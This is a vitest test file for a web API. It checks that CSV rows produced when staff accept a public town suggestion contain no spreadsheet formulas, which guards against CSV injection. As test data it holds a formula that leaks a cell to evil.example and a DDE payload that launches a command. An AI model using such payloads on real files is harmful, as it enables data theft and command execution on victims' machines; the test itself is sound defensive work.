import { describe, expect, it } from 'vitest';
import { parseCsv } from '../csv-reader.ts';
import { request } from '../helpers.ts';
import { ADDITION, admin, EDITOR, send } from '../suggestion-helpers.ts';

/**
 * A hostile pass over the public suggestions (issue 14): what an outsider and a
 * staff member of the wrong role can do with them, each answered by a test.
 */
const importCsv = (csv: string) => request('POST', '/api/v1/admin/imports?dry_run=true', { headers: { Authorization: `Bearer ${EDITOR}`, 'Content-Type': 'text/csv' }, body: csv });

const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i;
/** Cells a spreadsheet would evaluate (OWASP "CSV injection"), as test/api/csv-injection.test.ts finds them. */
const formulaCells = (csv: string) =>
  parseCsv(csv)
    .slice(1)
    .flat()
    .filter((cell) => /^[=+\-@\t\r]/.test(cell) && !NUMBER.test(cell));

describe('the import row an acceptance prefills', () => {
  it('never hands staff a spreadsheet formula, and the import still reads the text as the sender wrote it', async () => {
    const name = '=HYPERLINK("http://evil.example/?d="&A1,"尼山镇")';
    const detail = "-2+3+cmd|' /C calc'!A0 未收录";
    const receipt = await send({ ...ADDITION, town_name: name, detail });
    const res = await admin(EDITOR, 'POST', `/api/v1/admin/suggestions/${receipt}/accept`);
    expect(res.status).toBe(200);
    const { csv } = await res.json<{ csv: string }>();
    expect(formulaCells(csv)).toEqual([]);
    // Sent to the import as it is, the row names the town and the note the sender gave, not a `'`-prefixed copy.
    const report = await (await importCsv(csv)).json<{ problems: { code: string; column: string | null; detail: string }[] }>();
    const unknown = report.problems.find((p) => p.code === 'unknown-town');
    expect(unknown?.detail).toContain(`No town "${name}"`);
    expect(report.problems.filter((p) => p.column === 'note')).toEqual([]);
  });
});
